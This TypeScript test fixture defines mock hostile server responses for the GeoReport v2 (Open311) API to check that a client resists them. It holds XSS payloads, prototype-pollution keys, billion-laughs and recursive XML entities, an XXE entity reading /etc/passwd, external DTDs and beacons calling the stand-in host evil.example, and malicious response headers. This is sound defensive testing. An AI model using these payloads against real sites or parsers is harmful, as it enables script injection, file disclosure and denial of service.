// Invented answers of a malicious server, each for a method of GeoReport v2; the tests look for
// `__pwned` and evil.example afterwards.

const RUN = 'window.__pwned=1';
const BEACON = 'https://evil.example/beacon';

/** Markup, template syntax and control characters that some page could interpret. */
export const EVIL = [
	`<script>${RUN}</script>`,
	`<img src=x onerror="${RUN}">`,
	`"><svg onload=${RUN}>`,
	`<img src="${BEACON}"><iframe src="javascript:parent.${RUN}"></iframe>`,
	`<style>@import "${BEACON}"</style><base href="${BEACON}"><form action="${BEACON}">`,
	`'-${RUN}-' \${${RUN}} {{constructor.constructor("${RUN}")()}} {@html ${RUN}}`,
	'\u202Eevil\u202C \u2066live\u2069 \u200B\uFEFF',
	`javascript:${RUN}`
].join(' ');

/** Texts that look like web addresses, but must not become links. */
const ADDRESSES = [
	`javascript:${RUN}`,
	` JaVa\tScRiPt:${RUN}//http://a.example`,
	`data:text/html,<script>opener.${RUN};parent.${RUN}</script>`,
	`https://evil.example/"onmouseover="${RUN}`,
	`//evil.example/x.png`,
	'file:///etc/passwd'
];

/** Names that every JavaScript object inherits. */
const BORN = ['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', 'valueOf'];

const FIELDS = [
	'service_request_id',
	'status',
	'status_notes',
	'service_name',
	'service_code',
	'description',
	'agency_responsible',
	'service_notice',
	'requested_datetime',
	'updated_datetime',
	'expected_datetime',
	'address',
	'address_id',
	'zipcode'
] as const;

type Record = { [name: string]: unknown };

const AT = { lat: 43.6655, long: -79.4076 };
const all = (value: string): Record => Object.fromEntries(FIELDS.map((name) => [name, value]));

/**
 * Service requests that are hostile in every field; all are in the city unless that is the point.
 */
const RECORDS: readonly Record[] = [
	{ ...all(EVIL), ...AT, media_url: ADDRESSES[0] },
	...ADDRESSES.map((media_url, at) => ({
		...all(`${media_url}`),
		service_request_id: `<b id=${at}>${at}</b>`,
		...AT,
		media_url
	})),
	...BORN.map((name) => ({ ...all(name), ...AT, media_url: name })),
	// The same id twice, and once more as the key for a repeated id would look.
	{ ...all('1'), ...AT },
	{ ...all('1'), ...AT },
	{ ...all('x'), lat: 1e308, long: -1e308 },
	{ ...all('y'.repeat(20_000)), ...AT },
	{ ...all('\u001B[31m\u0007\u0000\u009B2J'), ...AT }
];

const escaped = (text: string) =>
	text
		.replaceAll('&', '&amp;')
		.replaceAll('<', '&lt;')
		.replaceAll('>', '&gt;')
		// XML permits no other control characters, and cannot escape them.
		// eslint-disable-next-line no-control-regex
		.replace(/[\u0000-\u0008\u000B\u000C\u000E-\u001F]/g, '');

const element = (name: string, value: unknown): string =>
	`<${name}>${escaped(String(value ?? ''))}</${name}>`;
const elements = (row: Record) =>
	Object.entries(row)
		.map(([name, value]) => element(name, value))
		.join('');
const requests = (inner: string) => `<service_requests>${inner}</service_requests>`;

const XML_RECORDS = requests(
	RECORDS.map((row) => `<request>${elements(row)}</request>`).join('\n') +
		`<request><service_request_id>raw</service_request_id><description><![CDATA[${EVIL}]]></description>` +
		`<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"><script>${RUN}</script></svg>` +
		`<img xmlns="http://www.w3.org/1999/xhtml" src="${BEACON}" onerror="${RUN}"/>` +
		`<h:script xmlns:h="http://www.w3.org/1999/xhtml" src="${BEACON}">${RUN}</h:script></request>`
);

const born = (value: string) => BORN.map((name) => `"${name}": ${value}`).join(', ');
const POLLUTING = `{${born('{"polluted": true, "isAdmin": true}')}}`;

const dtd = (subset: string, use: string) =>
	`<?xml version="1.0"?>\n<!DOCTYPE service_requests ${subset}>\n` +
	requests(
		`<request><service_request_id>7</service_request_id><description>${use}</description></request>`
	);

const LAUGHS = [
	'<!ENTITY l0 "lol">',
	...Array.from({ length: 12 }, (_, at) => `<!ENTITY l${at + 1} "${`&l${at};`.repeat(10)}">`)
].join('\n');

const TEN_MEGABYTES = 10_000_000;

/** An answer to GET Service Requests, and a text of it that the page must show as it is. */
export interface HostileAnswer {
	name: string;
	format: 'xml' | 'json';
	status?: number;
	/** Whether it is also checked in the history, a comparison, an export and a handout. */
	alsoKept?: true;
	body: string;
	headers?: { [name: string]: string };
	seen: string;
}

export const HOSTILE_ANSWERS: readonly HostileAnswer[] = [
	{
		name: 'markup in every field',
		format: 'xml',
		alsoKept: true,
		body: XML_RECORDS,
		seen: '&lt;script&gt;window'
	},
	{
		name: 'markup in every field',
		format: 'json',
		body: JSON.stringify({ service_requests: RECORDS }),
		seen: '<script>window.__pwned=1</script>'
	},
	{
		name: 'elements with the names of what every object has',
		format: 'xml',
		body: requests(
			BORN.map((name) => `<request>${elements(AT)}${element(name, 'polluted')}</request>`).join(
				''
			) +
				BORN.map((name) => element(name, 'polluted')).join('') +
				`<request ${BORN.map((name) => `${name}="polluted"`).join(' ')}><__proto__><polluted>true</polluted></__proto__><constructor><prototype><polluted>true</polluted></prototype></constructor></request>`
		),
		seen: '<__proto__>'
	},
	{
		name: 'a document that is one of those names',
		format: 'xml',
		body: '<__proto__><request><polluted>true</polluted></request></__proto__>',
		seen: '<__proto__>'
	},
	{
		name: 'keys with the names of what every object has',
		format: 'json',
		alsoKept: true,
		body: `{"service_requests": [${POLLUTING}, {"service_request_id": ${POLLUTING}, "lat": 43.6655, "long": -79.4076, ${born('"polluted"')}}], ${born('{"polluted": true}')}}`,
		seen: '"__proto__"'
	},
	{
		name: 'entities that grow without end',
		format: 'xml',
		body: dtd(`[${LAUGHS}]`, '&l12;'),
		seen: '<!ENTITY l0 "lol">'
	},
	{
		name: 'entities that name each other',
		format: 'xml',
		body: dtd('[<!ENTITY a "&b;"><!ENTITY b "&a;"><!ENTITY lt "<script>">]', '&a; &lt;'),
		seen: '<!ENTITY a "&b;">'
	},
	{
		name: 'entities and a DTD of elsewhere',
		format: 'xml',
		body: dtd(
			'SYSTEM "https://evil.example/beacon.dtd" [<!ENTITY xxe SYSTEM "file:///etc/passwd"><!ENTITY % p SYSTEM "https://evil.example/p"> %p; <!ENTITY far SYSTEM "https://evil.example/beacon">]',
			'&xxe; &far;'
		),
		seen: 'file:///etc/passwd'
	},
	{
		name: 'a stylesheet of elsewhere',
		format: 'xml',
		body: `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="${BEACON}"?>${XML_RECORDS}`,
		seen: 'xml-stylesheet'
	},
	{
		name: 'elements within elements, 20,000 deep',
		format: 'xml',
		alsoKept: true,
		body: requests(
			`<request><description>${'<a>'.repeat(20_000)}${'</a>'.repeat(20_000)}</description></request>`
		),
		seen: '<service_requests>'
	},
	{
		name: 'arrays within arrays, 20,000 deep',
		format: 'json',
		alsoKept: true,
		body: `{"service_requests": ${'['.repeat(20_000)}${']'.repeat(20_000)}}`,
		seen: '"service_requests"'
	},
	{
		name: 'numbers beyond all numbers',
		format: 'json',
		body: `[{"service_request_id": ${'9'.repeat(400)}, "lat": 1e400, "long": -1e400, "address_id": -0, "zipcode": 1${'0'.repeat(5_000)}, "media_url": {"toString": 1}, "description": [[["${EVIL.slice(0, 30)}"]]]}]`,
		seen: '9999999999'
	},
	{
		name: 'errors of markup',
		format: 'json',
		alsoKept: true,
		status: 400,
		body: JSON.stringify([
			{ code: EVIL, description: EVIL },
			...BORN.map((name) => ({ code: name, description: name })),
			{ code: { toString: 1 }, description: null }
		]),
		seen: '<script>window.__pwned=1</script>'
	},
	{
		name: 'errors of markup',
		format: 'xml',
		status: 500,
		body: `<errors>${`<error>${element('code', EVIL)}${element('description', EVIL)}</error>`}<error><__proto__>1</__proto__></error></errors>`,
		seen: '&lt;script&gt;window'
	},
	{
		name: 'a page in place of an answer',
		format: 'xml',
		alsoKept: true,
		headers: { 'Content-Type': 'text/html' },
		body: `<!doctype html><title>x</title><body onload="${RUN}">${EVIL}`,
		seen: '<script>window.__pwned=1</script>'
	},
	{
		name: 'headers that would do something',
		format: 'json',
		headers: {
			'Content-Type': `application/json; charset="><script>${RUN}</script>`,
			Refresh: '0; url=https://evil.example/beacon',
			Link: `<${BEACON}>; rel=preload; as=script, <${BEACON}.css>; rel=stylesheet`,
			'Set-Cookie': '__pwned=1',
			'Content-Disposition': 'attachment; filename="../../evil.html"',
			'Clear-Site-Data': '"storage"',
			'X-Evil': EVIL.replace(/[^ -~]/g, '')
		},
		body: '[]',
		seen: '[]'
	},
	{
		name: '10 MB in one line',
		format: 'json',
		body: `[{"service_request_id":"1","lat":43.6655,"long":-79.4076,"description":"<script>${'x'.repeat(TEN_MEGABYTES)}"}]`,
		seen: '"service_request_id"'
	},
	{
		name: '10 MB in one line',
		format: 'xml',
		body: requests(
			`<request><service_request_id>1</service_request_id><lat>43.6655</lat><long>-79.4076</long><description>${'y '.repeat(TEN_MEGABYTES / 2)}</description></request>`
		),
		seen: 'service_request_id'
	}
];

const tags = (row: Record, name: string) => `<${name}>${elements(row)}</${name}>`;

/** A service list of hostile services; the first has a definition. */
export const HOSTILE_SERVICES = `<services>${[EVIL, ...BORN, 'A/../../B?c#d']
	.map((text) =>
		tags(
			{
				service_code: text,
				service_name: text,
				description: `${text} https://evil.example/page`,
				metadata: 'true',
				type: text,
				keywords: text,
				group: text
			},
			'service'
		)
	)
	.join('')}</services>`;

/** The definition of any of these services: labels, notes, values, codes and types of questions. */
export const HOSTILE_DEFINITION = `<service_definition>${element('service_code', EVIL)}<attributes>${[
	...['singlevaluelist', 'multivaluelist', 'string', 'text', 'number', 'datetime', ...BORN].map(
		(datatype, order) =>
			`<attribute>${elements({
				variable: 'true',
				code: datatype === 'string' ? EVIL : datatype,
				datatype,
				required: 'true',
				datatype_description: EVIL,
				order,
				description: `${datatype}: ${EVIL}`
			})}<values>${[EVIL, ...BORN].map((key) => tags({ key, name: `${key} ${EVIL}` }, 'value')).join('')}</values></attribute>`
	),
	`<attribute>${elements({ variable: 'false', code: 'note', datatype: 'string', required: 'false', order: 99, description: EVIL })}</attribute>`
].join('')}</attributes></service_definition>`;

/** A discovery document whose endpoints have URLs that must not be used. */
export const HOSTILE_DISCOVERY = `<discovery>${element('changeset', EVIL)}${element(
	'contact',
	`${EVIL} https://evil.example/contact javascript:${RUN}`
)}${element('key_service', ADDRESSES.join(' '))}<endpoints>${[
	...ADDRESSES,
	EVIL,
	...BORN,
	'http://user:password@evil.example/'
]
	.map(
		(url) =>
			`<endpoint>${elements({ specification: `http://wiki.open311.org/GeoReport_v2 ${url}`, url, changeset: EVIL, type: EVIL })}<formats>${element('format', EVIL)}</formats></endpoint>`
	)
	.join('')}</endpoints></discovery>`;
